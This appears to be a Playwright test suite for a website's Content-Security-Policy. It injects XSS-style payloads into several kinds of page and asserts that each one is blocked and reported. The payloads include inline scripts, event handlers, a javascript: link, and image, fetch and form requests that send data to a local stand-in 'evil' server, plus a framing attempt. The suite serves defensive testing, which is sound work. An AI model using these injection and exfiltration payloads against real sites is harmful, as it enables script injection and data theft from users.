/** The Content-Security-Policy in a browser: it allows everything that the site does, and nothing else. */
import { createServer } from 'node:http';
import type { Page } from '@playwright/test';
import { closeServer, listenOnLoopback } from '../../support/http/loopback-server.ts';
import { completeSignUp } from '../../support/sign-in/hosted-login-pages.ts';
import { examplePage, examplePath, formPath, forThisSite, otherHome } from '../../support/this-site.ts';
import { expect, hydrate, test } from '../support/fixtures.ts';
import { recordPolicyViolations } from '../support/recordings.ts';
import { waitForFonts } from '../support/shown-fonts.ts';
import {
  accountMenu,
  expectStoredTheme,
  navigationLink,
  openHydrated,
  signInLink,
  signOut,
} from '../support/site-pages.ts';
import { translationsOf } from '../support/translations.ts';

const t = translationsOf('en');
const EMAIL = 'policy@example.com';

// threat-model: T-053, T-072
test('a visit violates the policy nowhere and sends requests only to the site and the hosted login', async ({
  page,
  context,
  cloud,
  site,
}) => {
  const violations = await recordPolicyViolations(context);
  const origins = new Set<string>();
  context.on('request', (request) => origins.add(new URL(request.url()).origin));
  const readPages = async () => {
    for (const path of forThisSite(['/ar', '/ja/typography-demo', '/hi/test-message', '/fr/nowhere'])) {
      await openHydrated(page, path);
      await waitForFonts(page);
    }
  };
  await openHydrated(page, examplePath());
  await page.getByRole('button', { name: t('theme.dark') }).click();
  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
  await expectStoredTheme(page, 'dark');
  // The pages of visitors without a session are cached.
  await readPages();
  await page.goto(`/auth/sign-up?returnTo=${formPath()}`);
  await completeSignUp(page, cloud, EMAIL);
  await expect(accountMenu(page, EMAIL)).toBeVisible();
  await readPages();
  await page.goto('/');
  await navigationLink(page, examplePage.name).click();
  await expect(page).toHaveURL(examplePath());
  await signOut(page, EMAIL);
  await expect(signInLink(page)).toBeVisible();
  expect(violations).toEqual([]);
  expect([...origins].sort()).toEqual([site.origin, cloud.origin].sort());
});

/** What injected markup may attempt, and the directive that prevents it. */
const injections: readonly [string, string, (page: Page, evil: string) => Promise<unknown>][] = [
  [
    'an inline script',
    'script-src-elem',
    (page) => insert(page, 'script', { textContent: 'window.ran = 1' }),
  ],
  [
    'an inline script with a wrong nonce',
    'script-src-elem',
    (page) => insert(page, 'script', { textContent: 'window.ran = 1', nonce: 'made-up' }),
  ],
  [
    'a script of another origin',
    'script-src-elem',
    (page, evil) => insert(page, 'script', { src: `${evil}/run.js` }),
  ],
  [
    'a script in a data URL',
    'script-src-elem',
    (page) => insert(page, 'script', { src: 'data:text/javascript,window.ran=1' }),
  ],
  [
    'an inline event handler',
    'script-src-attr',
    (page) => insertHtml(page, '<img src="data:," onerror="window.ran = 1">'),
  ],
  [
    'a javascript: link',
    'script-src-elem',
    async (page) => {
      await insertHtml(page, '<a id="link" href="javascript:window.ran = 1">x</a>');
      await page.evaluate(() => document.getElementById('link')?.click());
    },
  ],
  ['evaluated text', 'script-src', (page) => page.evaluate(() => setTimeout('window.ran = 1'))],
  ['a frame of another site', 'frame-src', (page, evil) => insert(page, 'iframe', { src: evil })],
  [
    'an image request that leaks data to another site',
    'img-src',
    (page, evil) => insert(page, 'img', { src: `${evil}/leak?secret` }),
  ],
  [
    'a request that leaks data to another site',
    'connect-src',
    (page, evil) => page.evaluate((url) => void fetch(url).catch(() => {}), `${evil}/leak`),
  ],
  [
    'a form that posts to another site',
    'form-action',
    async (page, evil) => {
      await insertHtml(page, `<form id="form" method="post" action="${evil}/leak"></form>`);
      await page.evaluate(() => document.querySelector<HTMLFormElement>('#form')?.submit());
    },
  ],
  ['a base URL of another site', 'base-uri', (page, evil) => insert(page, 'base', { href: `${evil}/` })],
  [
    'a style sheet of another site',
    'style-src-elem',
    (page, evil) => insert(page, 'link', { rel: 'stylesheet', href: `${evil}/a.css` }),
  ],
  [
    'an inline style sheet',
    'style-src-elem',
    (page) => insert(page, 'style', { textContent: 'body { display: none }' }),
  ],
];

function insert(page: Page, name: string, properties: Record<string, string>): Promise<void> {
  return page.evaluate(
    ([element, given]) => void document.head.append(Object.assign(document.createElement(element), given)),
    [name, properties] as const,
  );
}

function insertHtml(page: Page, html: string): Promise<void> {
  return page.evaluate((markup) => document.body.insertAdjacentHTML('beforeend', markup), html);
}

test.describe('injected markup', () => {
  // The browser also reports every violation on the console.
  test.use({ expectedConsole: /Content Security Policy/ });

  for (const [path, kind] of [
    [otherHome, 'a cached page'],
    [formPath(), 'a page of a signed-in visitor'],
    ['/nowhere', 'an error page'],
  ] as const) {
    // threat-model: T-053
    test(`does nothing and is reported as a violation: ${kind}`, async ({ page, context, signUp }) => {
      const received: string[] = [];
      const evil = createServer((request, response) => {
        received.push(request.url ?? '');
        response.end('window.ran = 1');
      });
      const evilOrigin = await listenOnLoopback(evil);
      if (kind === 'a page of a signed-in visitor') await signUp('injected@example.com');
      const violations = await recordPolicyViolations(context);
      await page.goto(path);
      await expect(page.getByRole('main')).toBeVisible();
      // Hydration expects the document without injected markup.
      if (kind === 'a page of a signed-in visitor') await hydrate(page);
      for (const [what, directive, inject] of injections) {
        violations.length = 0;
        await inject(page, evilOrigin);
        await expect
          .poll(() => violations.map((violation) => violation.split(' ')[0]), what)
          .toEqual([directive]);
        expect(await page.evaluate(() => Reflect.get(window, 'ran')), what).toBeUndefined();
      }
      expect(received).toEqual([]);
      await closeServer(evil);
    });
  }
});

// threat-model: T-054
test('no page of the site is shown in a frame of another site', async ({ context, site, signUp }) => {
  await signUp('framed@example.com');
  const evil = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html');
    response.end(`<!doctype html><title>evil</title><iframe src="${site.origin}${formPath()}"></iframe>`);
  });
  const other = await context.newPage();
  const refused = other.waitForEvent('requestfailed');
  await other.goto(await listenOnLoopback(evil));
  const request = await refused;
  expect(request.url()).toBe(`${site.origin}${formPath()}`);
  expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
  await closeServer(evil);
});
